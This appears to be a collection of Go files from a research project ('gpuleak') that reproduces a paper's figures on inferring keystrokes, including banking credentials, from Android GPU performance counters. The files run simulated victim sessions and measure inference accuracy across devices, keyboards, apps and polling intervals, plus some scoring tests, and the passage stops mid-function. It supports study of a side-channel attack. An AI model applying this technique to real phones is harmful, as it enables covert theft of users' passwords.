			attack.OnlineOptions{}, seed)
		if err != nil {
			return err
		}
		ta, ca := b.TextAccuracy(), b.CharAccuracy()
		res.Table.AddRow(sweep, label, stats.Pct(ta), stats.Pct(ca))
		res.Metrics[sweep+"/"+label+"/text"] = ta
		res.Metrics[sweep+"/"+label+"/char"] = ca
		texts = append(texts, ta)
		return nil
	}

	// (a) GPU models.
	for _, dev := range []android.DeviceModel{android.LGV30, android.OnePlus7Pro, android.OnePlus8Pro, android.OnePlus9} {
		cfg := DefaultConfig()
		cfg.Device = dev
		if err := eval("gpu", dev.GPU.String(), cfg); err != nil {
			return nil, err
		}
	}
	// (b) Screen resolutions on the OnePlus 8 Pro.
	for _, r := range []geom.Size{android.FHDPlus, android.QHDPlus} {
		cfg := DefaultConfig()
		cfg.Resolution = r
		if err := eval("resolution", r.String(), cfg); err != nil {
			return nil, err
		}
	}
	// (c) Different phones sharing a GPU.
	for _, dev := range []android.DeviceModel{android.LGV30, android.Pixel2, android.OnePlus9, android.GalaxyS21} {
		cfg := DefaultConfig()
		cfg.Device = dev
		if err := eval("model", dev.Name, cfg); err != nil {
			return nil, err
		}
	}
	// (d) Android versions on the same hardware.
	for _, v := range []int{9, 10, 11} {
		cfg := DefaultConfig()
		cfg.Device = cfg.Device.WithAndroidVersion(v)
		if err := eval("android", fmt.Sprintf("Android %d", v), cfg); err != nil {
			return nil, err
		}
	}

	res.Metrics["min_text_acc"] = stats.Percentile(texts, 0)
	res.Metrics["max_text_acc"] = stats.Percentile(texts, 100)
	res.Metrics["text_acc_spread"] = stats.Percentile(texts, 100) - stats.Percentile(texts, 0)
	return res, nil
}
