package exp

import (
	"fmt"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/geom"
	"gpuleak/internal/input"
	"gpuleak/internal/parallel"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunFig22 reproduces Figure 22: the impact of concurrent CPU and GPU
// workloads. Paper: negligible reduction for CPU<50% or GPU<25%; drops
// toward ~60% when loads reach 75%.
func RunFig22(o Options) (*Result, error) {
	res := newResult("fig22", "Figure 22: impact of concurrent CPU/GPU workloads",
		"load", "level", "text acc", "char acc")

	cfg := DefaultConfig()
	m, err := TrainModelWorkers(cfg, o.Workers)
	if err != nil {
		return nil, err
	}
	per := o.Trials(150)
	levels := []float64{0, 0.25, 0.50, 0.75}

	// Flatten the (kind, level) grid into one task list; seeds depend on
	// the level index and kind exactly as the serial loops used.
	type cell struct {
		kind string
		li   int
		set  func(*victim.Config, float64)
	}
	var cells []cell
	for _, k := range []struct {
		kind string
		set  func(*victim.Config, float64)
	}{
		{"cpu", func(c *victim.Config, lv float64) { c.CPULoad = lv }},
		{"gpu", func(c *victim.Config, lv float64) { c.GPULoad = lv }},
	} {
		for li := range levels {
			cells = append(cells, cell{kind: k.kind, li: li, set: k.set})
		}
	}
	batches, err := parallel.Map(o.Workers, len(cells), func(i int) (*BatchResult, error) {
		cl := cells[i]
		c := cfg
		cl.set(&c, levels[cl.li])
		return RunBatch(o, c, m, LowerDigits, 10, per,
			input.Volunteers[cl.li%5], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(cl.li)*41231+hash32(cl.kind))
	})
	if err != nil {
		return nil, err
	}
	for i, cl := range cells {
		lv := levels[cl.li]
		ta, ca := batches[i].TextAccuracy(), batches[i].CharAccuracy()
		res.Table.AddRow(cl.kind, fmt.Sprintf("%.0f%%", lv*100), stats.Pct(ta), stats.Pct(ca))
		res.Metrics[fmt.Sprintf("%s_%.0f_text", cl.kind, lv*100)] = ta
		res.Metrics[fmt.Sprintf("%s_%.0f_char", cl.kind, lv*100)] = ca
	}
	return res, nil
}

func hash32(s string) int64 {
	var h int64 = 1469598103
	for _, c := range s {
		h = h*1099511 + int64(c)
	}
	return h
}

// RunFig23 reproduces Figure 23: the impact of the counter polling
// interval at 60 Hz and 120 Hz refresh rates. Paper: per-key accuracy
// stays >95% but text accuracy drops ~20% at a 12 ms interval; 120 Hz
// needs a 4 ms interval.
func RunFig23(o Options) (*Result, error) {
	res := newResult("fig23", "Figure 23: impact of the PC reading interval",
		"refresh", "interval", "text acc", "char acc")

	per := o.Trials(150)
	refreshes := []int{60, 120}
	intervals := []sim.Time{4 * sim.Millisecond, 8 * sim.Millisecond, 12 * sim.Millisecond}
	// One task per (refresh, interval) cell. Both cells of one refresh
	// rate train the same model; the singleflight cache ensures exactly
	// one training runs per rate no matter which cell gets there first.
	batches, err := parallel.Map(o.Workers, len(refreshes)*len(intervals), func(i int) (*BatchResult, error) {
		hz, ii := refreshes[i/len(intervals)], i%len(intervals)
		cfg := DefaultConfig()
		cfg.RefreshHz = hz
		m, err := TrainModelWorkers(cfg, o.Workers)
		if err != nil {
			return nil, err
		}
		return RunBatch(o, cfg, m, LowerDigits, 10, per,
			input.Volunteers[ii%5], input.SpeedAny, intervals[ii],
			attack.OnlineOptions{}, o.Seed+int64(hz)*7+int64(ii)*52561)
	})
	if err != nil {
		return nil, err
	}
	for i, b := range batches {
		hz, interval := refreshes[i/len(intervals)], intervals[i%len(intervals)]
		ta, ca := b.TextAccuracy(), b.CharAccuracy()
		res.Table.AddRow(fmt.Sprintf("%dHz", hz), interval.String(), stats.Pct(ta), stats.Pct(ca))
		res.Metrics[fmt.Sprintf("%dhz_%dms_text", hz, int(interval/sim.Millisecond))] = ta
		res.Metrics[fmt.Sprintf("%dhz_%dms_char", hz, int(interval/sim.Millisecond))] = ca
	}
	return res, nil
}

// RunFig24 reproduces Figure 24: adaptability across GPU models (a),
// screen resolutions (b), phone models sharing a GPU (c) and Android OS
// versions (d). With per-configuration classifiers, accuracy is similar
// everywhere.
func RunFig24(o Options) (*Result, error) {
	res := newResult("fig24", "Figure 24: adaptability of the attack",
		"sweep", "configuration", "text acc", "char acc")

	per := o.Trials(100)

	// The serial version advanced one running seed by 60013 per
	// configuration; enumerating the sweeps up front makes that seed a
	// pure function of the configuration index so the evaluations can fan
	// out without changing a single trial.
	type sweepCfg struct {
		sweep, label string
		cfg          victim.Config
	}
	var cfgs []sweepCfg
	addCfg := func(sweep, label string, cfg victim.Config) {
		cfgs = append(cfgs, sweepCfg{sweep: sweep, label: label, cfg: cfg})
	}
	// (a) GPU models.
	for _, dev := range []android.DeviceModel{android.LGV30, android.OnePlus7Pro, android.OnePlus8Pro, android.OnePlus9} {
		cfg := DefaultConfig()
		cfg.Device = dev
		addCfg("gpu", dev.GPU.String(), cfg)
	}
	// (b) Screen resolutions on the OnePlus 8 Pro.
	for _, r := range []geom.Size{android.FHDPlus, android.QHDPlus} {
		cfg := DefaultConfig()
		cfg.Resolution = r
		addCfg("resolution", r.String(), cfg)
	}
	// (c) Different phones sharing a GPU.
	for _, dev := range []android.DeviceModel{android.LGV30, android.Pixel2, android.OnePlus9, android.GalaxyS21} {
		cfg := DefaultConfig()
		cfg.Device = dev
		addCfg("model", dev.Name, cfg)
	}
	// (d) Android versions on the same hardware.
	for _, v := range []int{9, 10, 11} {
		cfg := DefaultConfig()
		cfg.Device = cfg.Device.WithAndroidVersion(v)
		addCfg("android", fmt.Sprintf("Android %d", v), cfg)
	}

	batches, err := parallel.Map(o.Workers, len(cfgs), func(i int) (*BatchResult, error) {
		cfg := cfgs[i].cfg
		m, err := TrainModelWorkers(cfg, o.Workers)
		if err != nil {
			return nil, err
		}
		seed := o.Seed + 60013*int64(i+1)
		// §7.4's recommendation: poll at no more than half the refresh
		// interval — 4 ms on 120 Hz panels.
		interval := attack.DefaultInterval
		hz := cfg.RefreshHz
		if hz == 0 {
			hz = cfg.Device.DefaultRefreshHz()
		}
		if hz > 60 {
			interval = 4 * sim.Millisecond
		}
		return RunBatch(o, cfg, m, LowerDigits, 10, per,
			input.Volunteers[int(seed)%5], input.SpeedAny, interval,
			attack.OnlineOptions{}, seed)
	})
	if err != nil {
		return nil, err
	}
	var texts []float64
	for i, sc := range cfgs {
		ta, ca := batches[i].TextAccuracy(), batches[i].CharAccuracy()
		res.Table.AddRow(sc.sweep, sc.label, stats.Pct(ta), stats.Pct(ca))
		res.Metrics[sc.sweep+"/"+sc.label+"/text"] = ta
		res.Metrics[sc.sweep+"/"+sc.label+"/char"] = ca
		texts = append(texts, ta)
	}

	res.Metrics["min_text_acc"] = stats.Percentile(texts, 0)
	res.Metrics["max_text_acc"] = stats.Percentile(texts, 100)
	res.Metrics["text_acc_spread"] = stats.Percentile(texts, 100) - stats.Percentile(texts, 0)
	return res, nil
}
