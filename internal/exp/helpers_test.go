package exp

import (
	"math"
	"testing"

	"gpuleak/internal/stats"
)

func TestGroupAccuraciesAligned(t *testing.T) {
	got := GroupAccuracies([]string{"abc1"}, []string{"abc1"})
	if got["lower"] != 1 || got["number"] != 1 {
		t.Fatalf("perfect match scored %v", got)
	}
}

func TestGroupAccuraciesSurvivesDroppedChar(t *testing.T) {
	// A dropped leading char must not zero out the rest via misalignment.
	got := GroupAccuracies([]string{"bcdef"}, []string{"abcdef"})
	if got["lower"] < 0.8 {
		t.Fatalf("greedy alignment failed: %v", got)
	}
}

func TestScoreConfusionSubstitution(t *testing.T) {
	c := stats.NewConfusion()
	scoreConfusion(c, "axc", "abc")
	if c.Accuracy('a') != 1 || c.Accuracy('c') != 1 {
		t.Fatal("correct chars penalized")
	}
	if c.Accuracy('b') != 0 {
		t.Fatal("substitution not recorded")
	}
}

func TestScoreConfusionInsertionDeletion(t *testing.T) {
	c := stats.NewConfusion()
	scoreConfusion(c, "abxc", "abc") // one extra inferred key
	if c.Accuracy('a') != 1 || c.Accuracy('b') != 1 || c.Accuracy('c') != 1 {
		t.Fatalf("insertion misaligned scoring")
	}
	c2 := stats.NewConfusion()
	scoreConfusion(c2, "ac", "abc") // one missed key
	if c2.Accuracy('b') != 0 {
		t.Fatal("deletion not penalized")
	}
	if c2.Accuracy('a') != 1 || c2.Accuracy('c') != 1 {
		t.Fatal("deletion misaligned scoring")
	}
}

func TestTrialsScaling(t *testing.T) {
	if (Options{Quick: true}).Trials(300) != 30 {
		t.Fatal("quick scaling wrong")
	}
	if (Options{Quick: true}).Trials(10) != 4 {
		t.Fatal("quick floor wrong")
	}
	if (Options{}).Trials(300) != 300 {
		t.Fatal("full scaling wrong")
	}
}

func TestTrainModelCacheStable(t *testing.T) {
	a, err := TrainModel(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	b, err := TrainModel(DefaultConfig())
	if err != nil {
		t.Fatal(err)
	}
	if a != b {
		t.Fatal("model cache miss for identical config")
	}
}

func TestBatchMetrics(t *testing.T) {
	b := &BatchResult{
		Inferred: []string{"abcd", "abxd"},
		Truth:    []string{"abcd", "abcd"},
	}
	if b.TextAccuracy() != 0.5 {
		t.Fatalf("text accuracy %v", b.TextAccuracy())
	}
	if math.Abs(b.CharAccuracy()-7.0/8) > 1e-9 {
		t.Fatalf("char accuracy %v", b.CharAccuracy())
	}
	if b.MeanErrors() != 0.5 {
		t.Fatalf("mean errors %v", b.MeanErrors())
	}
}
