package exp

import (
	"fmt"
	"math"

	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunFig5 reproduces Figure 5: the PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ counter
// stays flat while the screen is idle and shows a unique, repeatable delta
// for each key press ('w' vs 'n' in the paper).
func RunFig5(o Options) (*Result, error) {
	res := newResult("fig5", "Figure 5: per-key PC deltas (PERF_LRZ_VISIBLE_PRIM_AFTER_LRZ)",
		"key", "press", "delta", "repeatable")

	cfg := DefaultConfig()
	cfg.RenderJitter = 0 // the figure shows a clean lab trace
	cfg.NotifPerMinute = -1
	cfg.DisableCursorBlink = true
	cfg.Seed = o.Seed + 5

	sess := victim.New(cfg)
	// 'w' pressed twice, then 'n' pressed twice, slow cadence.
	script := input.Script{}
	keys := []rune{'w', 'w', 'n', 'n'}
	t := 700 * sim.Millisecond
	for _, r := range keys {
		script.Events = append(script.Events, input.Event{Kind: input.EvPress, R: r, At: t, Dur: 90 * sim.Millisecond})
		t += 600 * sim.Millisecond
	}
	sess.Run(script)

	f, err := sess.Open()
	if err != nil {
		return nil, err
	}
	s, err := attack.NewSampler(f, attack.DefaultInterval)
	if err != nil {
		return nil, err
	}
	tr, err := s.Collect(0, sess.End)
	if err != nil {
		return nil, err
	}

	// Idle flatness: no deltas in the quiet second before typing
	// (excluding the launch frame).
	idleChanges := 0
	for _, d := range tr.Deltas() {
		if d.At > 100*sim.Millisecond && d.At < 650*sim.Millisecond {
			idleChanges++
		}
	}
	res.Metrics["idle_changes"] = float64(idleChanges)

	// Per-press first delta of counter 0.
	deltas := map[rune][]float64{}
	presses := sess.Presses()
	ds := tr.Deltas()
	for i, ev := range presses {
		for _, d := range ds {
			if d.At > ev.At && d.At <= ev.At+40*sim.Millisecond {
				deltas[ev.R] = append(deltas[ev.R], d.V[0])
				res.Table.AddRow(string(ev.R), fmt.Sprintf("#%d", i+1),
					fmt.Sprintf("%.0f", d.V[0]), "")
				break
			}
		}
	}
	for r, vs := range deltas {
		rep := len(vs) == 2 && vs[0] == vs[1]
		res.Metrics["delta_"+string(r)] = vs[0]
		if rep {
			res.Metrics["repeatable_"+string(r)] = 1
		}
	}
	res.Metrics["w_vs_n_differ"] = bool01(deltas['w'][0] != deltas['n'][0])
	return res, nil
}

// RunFig6 reproduces Figure 6: per-key delta clusters in a 2-D slice of
// the counter space (one LRZ and one RAS counter). The figure's message
// is cluster separation; we report scatter coordinates and the minimum
// inter-key separation relative to intra-key spread.
func RunFig6(o Options) (*Result, error) {
	res := newResult("fig6", "Figure 6: per-key clusters (LRZ_FULL_8X8_TILES vs RAS_SUPERTILE_ACTIVE_CYCLES)",
		"key", "lrz_full_8x8", "ras_supertile_cycles")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	type pt struct{ x, y float64 }
	pts := map[rune]pt{}
	for _, r := range "abcdefghijklmnopqrstuvwxyz" {
		c, ok := m.Keys[string(r)]
		if !ok {
			continue
		}
		// Index 1 = FULL_8X8_TILES, index 4 = SUPERTILE_ACTIVE_CYCLES.
		pts[r] = pt{c[1], c[4]}
		res.Table.AddRow(string(r), fmt.Sprintf("%.0f", c[1]), fmt.Sprintf("%.0f", c[4]))
	}

	minSep := math.Inf(1)
	letters := []rune("abcdefghijklmnopqrstuvwxyz")
	for i := 0; i < len(letters); i++ {
		for j := i + 1; j < len(letters); j++ {
			a, b := pts[letters[i]], pts[letters[j]]
			d := math.Hypot(a.x-b.x, a.y-b.y)
			if d < minSep {
				minSep = d
			}
		}
	}
	distinct := map[[2]float64]bool{}
	for _, p := range pts {
		distinct[[2]float64{p.x, p.y}] = true
	}
	res.Metrics["min_2d_separation"] = minSep
	res.Metrics["full_space_min_separation"] = m.MinInterKeyDistance()
	res.Metrics["distinct_letter_clusters"] = float64(len(distinct))
	return res, nil
}

func bool01(b bool) float64 {
	if b {
		return 1
	}
	return 0
}

var _ = stats.Fmt // keep stats imported for sibling files' style
