package exp

import (
	"fmt"

	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
)

// RunFig16 reproduces Figure 16: key press durations and inter-key
// intervals of the five volunteers, showing the heterogeneity the
// experiments replay.
func RunFig16(o Options) (*Result, error) {
	res := newResult("fig16", "Figure 16: volunteer key press durations and intervals",
		"volunteer", "dur mean (s)", "dur std", "interval mean (s)", "interval std")

	n := o.Trials(2000)
	rng := sim.NewRand(o.Seed + 16)
	var meansLo, meansHi float64
	for i, v := range input.Volunteers {
		durs := make([]float64, n)
		ints := make([]float64, n)
		for j := 0; j < n; j++ {
			durs[j] = v.SampleDuration(rng).Seconds()
			ints[j] = v.SampleInterval(rng).Seconds()
		}
		dm, ds := stats.Mean(durs), stats.Std(durs)
		im, is := stats.Mean(ints), stats.Std(ints)
		res.Table.AddRow(v.Name, stats.Fmt(dm), stats.Fmt(ds), stats.Fmt(im), stats.Fmt(is))
		res.Metrics["dur_mean_"+v.Name] = dm
		res.Metrics["int_mean_"+v.Name] = im
		if i == 0 || im < meansLo {
			meansLo = im
		}
		if im > meansHi {
			meansHi = im
		}
	}
	res.Metrics["interval_spread_ratio"] = meansHi / meansLo
	return res, nil
}

// RunFig17 reproduces Figure 17: text-input accuracy vs credential length
// (a), mean wrong key presses per text (b), and per-character-group
// accuracy (c). Paper: text accuracy always >75%, average 81.3%; most
// texts have at most one wrong key; per-key accuracy 98.3%; symbols are
// the weakest group.
func RunFig17(o Options) (*Result, error) {
	res := newResult("fig17", "Figure 17: accuracy of inferring user text inputs (Chase, OnePlus 8 Pro, GBoard)",
		"length", "text acc", "char acc", "mean errors")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	perLength := o.Trials(300)
	lengths := []int{8, 9, 10, 11, 12, 13, 14, 15, 16}
	if o.Quick {
		lengths = []int{8, 12, 16}
	}

	all := &BatchResult{}
	var textAccs []float64
	for li, L := range lengths {
		b, err := RunBatch(o, cfg, m, CredAlphabet, L, perLength,
			input.Volunteers[li%5], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(L)*7919)
		if err != nil {
			return nil, err
		}
		ta, ca, me := b.TextAccuracy(), b.CharAccuracy(), b.MeanErrors()
		res.Table.AddRow(fmt.Sprintf("%d", L), stats.Pct(ta), stats.Pct(ca), stats.Fmt(me))
		res.Metrics[fmt.Sprintf("text_acc_len%d", L)] = ta
		textAccs = append(textAccs, ta)
		all.Inferred = append(all.Inferred, b.Inferred...)
		all.Truth = append(all.Truth, b.Truth...)
	}
	res.Table.AddRow("all", stats.Pct(all.TextAccuracy()), stats.Pct(all.CharAccuracy()), stats.Fmt(all.MeanErrors()))

	res.Metrics["avg_text_acc"] = stats.Mean(textAccs)
	res.Metrics["min_text_acc"] = stats.Percentile(textAccs, 0)
	res.Metrics["char_acc"] = all.CharAccuracy()
	res.Metrics["mean_errors"] = all.MeanErrors()

	groups := GroupAccuracies(all.Inferred, all.Truth)
	for _, g := range []string{"lower", "upper", "number", "symbol"} {
		if acc, ok := groups[g]; ok {
			res.Table.AddRow("group:"+g, stats.Pct(acc), "", "")
			res.Metrics["group_"+g] = acc
		}
	}
	return res, nil
}

// RunFig18 reproduces Figure 18: inference accuracy per individual key.
// The paper shows most errors concentrated on a few minimal-overdraw
// symbols such as ';' and ”'.
func RunFig18(o Options) (*Result, error) {
	res := newResult("fig18", "Figure 18: inference accuracy over individual key presses",
		"key", "accuracy", "trials")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	repeats := o.Trials(50)
	charset := []rune("abcdefghijklmnopqrstuvwxyz1234567890,." +
		"ABCDEFGHIJKLMNOPQRSTUVWXYZ" + `@#$&-+()/*"':;!?`)

	conf := stats.NewConfusion()
	rng := sim.NewRand(o.Seed + 18)
	// Type keys in shuffled blocks so every key sees varied context.
	for rep := 0; rep < repeats; rep += 8 {
		perm := rng.Perm(len(charset))
		var text []rune
		for _, idx := range perm {
			for k := 0; k < min2(8, repeats-rep); k++ {
				text = append(text, charset[idx])
			}
		}
		// Split into sessions of 24 presses.
		for start := 0; start < len(text); start += 24 {
			end := start + 24
			if end > len(text) {
				end = len(text)
			}
			chunk := string(text[start:end])
			inf, truth, _, err := EavesdropOnce(cfg, m, chunk, input.Volunteers[start%5],
				input.SpeedAny, attack.DefaultInterval, attack.OnlineOptions{},
				o.Seed+int64(rep)*131071+int64(start))
			if err != nil {
				return nil, err
			}
			scoreConfusion(conf, inf, truth)
		}
	}

	var worst float64 = 1
	var worstKey rune
	lowSymbols := 0
	for _, r := range conf.Seen() {
		acc := conf.Accuracy(r)
		res.Table.AddRow(string(r), stats.Pct(acc), fmt.Sprintf("%d", repeats))
		res.Metrics["acc_"+string(r)] = acc
		if acc < worst {
			worst = acc
			worstKey = r
		}
		if acc < 0.97 && stats.CharGroup(r) == "symbol" {
			lowSymbols++
		}
	}
	res.Metrics["overall"] = conf.Overall()
	res.Metrics["worst_acc"] = worst
	res.Metrics["worst_is_symbol"] = bool01(stats.CharGroup(worstKey) == "symbol")
	res.Metrics["low_symbol_count"] = float64(lowSymbols)
	return res, nil
}

// scoreConfusion aligns inferred to truth position-wise; on length
// mismatch it advances through a minimal-edit alignment.
func scoreConfusion(conf *stats.Confusion, inferred, truth string) {
	ir, tr := []rune(inferred), []rune(truth)
	if len(ir) == len(tr) {
		for i := range tr {
			conf.Add(tr[i], ir[i])
		}
		return
	}
	// Simple greedy alignment for insertions/deletions.
	i, j := 0, 0
	for j < len(tr) {
		switch {
		case i >= len(ir):
			conf.Add(tr[j], 0)
			j++
		case ir[i] == tr[j]:
			conf.Add(tr[j], ir[i])
			i++
			j++
		case len(ir)-i > len(tr)-j: // extra inferred key: skip it
			i++
		case len(ir)-i < len(tr)-j: // missed key
			conf.Add(tr[j], 0)
			j++
		default:
			conf.Add(tr[j], ir[i])
			i++
			j++
		}
	}
}

func min2(a, b int) int {
	if a < b {
		return a
	}
	return b
}
