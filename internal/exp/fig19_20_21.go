package exp

import (
	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/parallel"
	"gpuleak/internal/stats"
)

// RunFig19 reproduces Figure 19: inference accuracy across the nine
// target applications (banking, investment, credit report, and their
// Chrome webpage variants). Paper: always above 80% text accuracy.
func RunFig19(o Options) (*Result, error) {
	res := newResult("fig19", "Figure 19: inference accuracy on different target apps",
		"app", "text acc", "char acc")

	perApp := o.Trials(100)
	// The nine apps are independent configurations; run them through the
	// pool and assemble rows in app order afterwards.
	batches, err := parallel.Map(o.Workers, len(android.TargetApps), func(ai int) (*BatchResult, error) {
		cfg := DefaultConfig()
		cfg.App = android.TargetApps[ai]
		m, err := TrainModelWorkers(cfg, o.Workers)
		if err != nil {
			return nil, err
		}
		return RunBatch(o, cfg, m, LowerDigits, 10, perApp,
			input.Volunteers[ai%5], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(ai)*19391)
	})
	if err != nil {
		return nil, err
	}
	var minText float64 = 1
	for ai, app := range android.TargetApps {
		ta, ca := batches[ai].TextAccuracy(), batches[ai].CharAccuracy()
		res.Table.AddRow(app.Name, stats.Pct(ta), stats.Pct(ca))
		res.Metrics["text_"+app.Name] = ta
		res.Metrics["char_"+app.Name] = ca
		if ta < minText {
			minText = ta
		}
	}
	res.Metrics["min_text_acc"] = minText
	return res, nil
}

// RunFig20 reproduces Figure 20: inference accuracy across the six
// popular on-screen keyboards. Paper: high accuracy on all, <5%
// variation.
func RunFig20(o Options) (*Result, error) {
	res := newResult("fig20", "Figure 20: inference accuracy on different keyboards",
		"keyboard", "text acc", "char acc")

	perKb := o.Trials(100)
	batches, err := parallel.Map(o.Workers, len(keyboard.All), func(ki int) (*BatchResult, error) {
		cfg := DefaultConfig()
		cfg.Keyboard = keyboard.All[ki]
		m, err := TrainModelWorkers(cfg, o.Workers)
		if err != nil {
			return nil, err
		}
		return RunBatch(o, cfg, m, LowerDigits, 10, perKb,
			input.Volunteers[ki%5], input.SpeedAny, attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(ki)*26407)
	})
	if err != nil {
		return nil, err
	}
	var lo, hi float64 = 1, 0
	for ki, kb := range keyboard.All {
		ta, ca := batches[ki].TextAccuracy(), batches[ki].CharAccuracy()
		res.Table.AddRow(kb.Name, stats.Pct(ta), stats.Pct(ca))
		res.Metrics["text_"+kb.Name] = ta
		res.Metrics["char_"+kb.Name] = ca
		if ca < lo {
			lo = ca
		}
		if ca > hi {
			hi = ca
		}
	}
	res.Metrics["char_acc_spread"] = hi - lo
	return res, nil
}

// RunFig21 reproduces Figure 21: the impact of typing speed. Paper: the
// per-key accuracy stays constant while the text accuracy drops for slow
// typists (longer traces accumulate more random system noise), with mean
// errors still below 1.3.
func RunFig21(o Options) (*Result, error) {
	res := newResult("fig21", "Figure 21: impact of user input speed",
		"speed", "text acc", "char acc", "mean errors")

	cfg := DefaultConfig()
	// Speed sensitivity comes from noise accumulating over the longer
	// trace; keep the default notification rate.
	m, err := TrainModelWorkers(cfg, o.Workers)
	if err != nil {
		return nil, err
	}
	per := o.Trials(300)
	speeds := []input.Speed{input.SpeedSlow, input.SpeedMedium, input.SpeedFast}
	batches, err := parallel.Map(o.Workers, len(speeds), func(si int) (*BatchResult, error) {
		return RunBatch(o, cfg, m, LowerDigits, 10, per,
			input.Volunteers[si%5], speeds[si], attack.DefaultInterval,
			attack.OnlineOptions{}, o.Seed+int64(si)*31357)
	})
	if err != nil {
		return nil, err
	}
	var fastText, slowText float64
	var charAccs []float64
	for si, sp := range speeds {
		b := batches[si]
		ta, ca, me := b.TextAccuracy(), b.CharAccuracy(), b.MeanErrors()
		res.Table.AddRow(sp.String(), stats.Pct(ta), stats.Pct(ca), stats.Fmt(me))
		res.Metrics["text_"+sp.String()] = ta
		res.Metrics["char_"+sp.String()] = ca
		res.Metrics["errors_"+sp.String()] = me
		charAccs = append(charAccs, ca)
		switch sp {
		case input.SpeedFast:
			fastText = ta
		case input.SpeedSlow:
			slowText = ta
		}
	}
	res.Metrics["fast_minus_slow_text"] = fastText - slowText
	res.Metrics["char_acc_spread"] = stats.Percentile(charAccs, 100) - stats.Percentile(charAccs, 0)
	return res, nil
}
