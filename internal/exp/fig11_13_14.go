package exp

import (
	"fmt"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/input"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

// RunFig11 reproduces the §5.1 system-factor census (illustrated in
// Figure 11): over thousands of key presses, how many exhibit
// duplication, split, or system noise. The paper reports 633 duplication,
// 316 split and 21 high-noise cases over 3,485 presses (≈28% affected).
func RunFig11(o Options) (*Result, error) {
	res := newResult("fig11", "Figure 11 / §5.1: system factors over many key presses",
		"presses", "duplication", "split", "noise-affected", "affected%")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	target := o.Trials(3485)
	perText := 20
	var presses, dups, splits int
	var texts int
	rng := sim.NewRand(o.Seed + 11)
	var agg attack.EngineStats
	for presses < target {
		text := input.RandomText(rng, LowerDigits, perText)
		_, truth, st, err := EavesdropOnce(cfg, m, text, input.Volunteers[texts%5], input.SpeedAny,
			attack.DefaultInterval, attack.OnlineOptions{}, o.Seed+int64(texts)*977)
		if err != nil {
			return nil, err
		}
		presses += len([]rune(truth))
		dups += st.Duplicates
		splits += st.Splits
		accumulate(&agg, st)
		texts++
	}
	noise := agg.Residual() // §5.1 system noise: changes never explained
	affected := float64(dups+splits+noise) / float64(presses)
	res.Table.AddRow(fmt.Sprintf("%d", presses), fmt.Sprintf("%d", dups),
		fmt.Sprintf("%d", splits), fmt.Sprintf("%d", noise),
		fmt.Sprintf("%.1f%%", 100*affected))
	res.Metrics["presses"] = float64(presses)
	res.Metrics["duplication"] = float64(dups)
	res.Metrics["split"] = float64(splits)
	res.Metrics["noise"] = float64(noise)
	res.Metrics["affected_frac"] = affected
	res.Metrics["dup_rate"] = float64(dups) / float64(presses)
	res.Metrics["split_rate"] = float64(splits) / float64(presses)
	return res, nil
}

// RunFig13 reproduces Figure 13: app switches produce dense bursts of
// large counter changes (inter-change gaps well under 50 ms) that the
// §5.2 detector recognizes, so foreign-app input is never mistaken for
// target-app typing.
func RunFig13(o Options) (*Result, error) {
	res := newResult("fig13", "Figure 13 / §5.2: app-switch burst detection",
		"scenario", "switch-bursts-detected", "keys-inferred", "keys-true")

	cfg := DefaultConfig()
	m, err := TrainModel(cfg)
	if err != nil {
		return nil, err
	}
	cfg.Seed = o.Seed + 13
	sess := victim.New(cfg)
	script := input.Script{Events: []input.Event{
		{Kind: input.EvPress, R: 'u', At: 700 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: 's', At: 1200 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: 'e', At: 1700 * sim.Millisecond, Dur: 90 * sim.Millisecond},
		{Kind: input.EvSwitchAway, At: 2500 * sim.Millisecond},
		{Kind: input.EvSwitchBack, At: 7 * sim.Second},
		{Kind: input.EvPress, R: 'r', At: 8 * sim.Second, Dur: 90 * sim.Millisecond},
		{Kind: input.EvPress, R: '1', At: 8600 * sim.Millisecond, Dur: 90 * sim.Millisecond},
	}}
	sess.Run(script)
	f, err := sess.Open()
	if err != nil {
		return nil, err
	}
	atk := attack.New(m)
	r, err := atk.Eavesdrop(f, 0, sess.End)
	if err != nil {
		return nil, err
	}

	// Measure the burst density around the switch (ground truth check).
	var gaps []float64
	var prev sim.Time
	inBurst := false
	for _, fr := range sess.GPU.Frames() {
		if fr.Start >= 2500*sim.Millisecond && fr.Start < 2800*sim.Millisecond {
			if inBurst {
				gaps = append(gaps, float64(fr.Start-prev)/1000)
			}
			prev = fr.Start
			inBurst = true
		}
	}
	maxGap := 0.0
	for _, g := range gaps {
		if g > maxGap {
			maxGap = g
		}
	}

	res.Table.AddRow("type, switch away 4.5s, return, type",
		fmt.Sprintf("%d", r.Stats.Switches), fmt.Sprintf("%d", len(r.Keys)), "5")
	res.Metrics["switches_detected"] = float64(r.Stats.Switches)
	res.Metrics["burst_max_gap_ms"] = maxGap
	res.Metrics["edit_distance"] = float64(stats.Levenshtein(r.Text, "user1"))
	// No foreign-app key may be inferred: everything recovered must come
	// from the target credential.
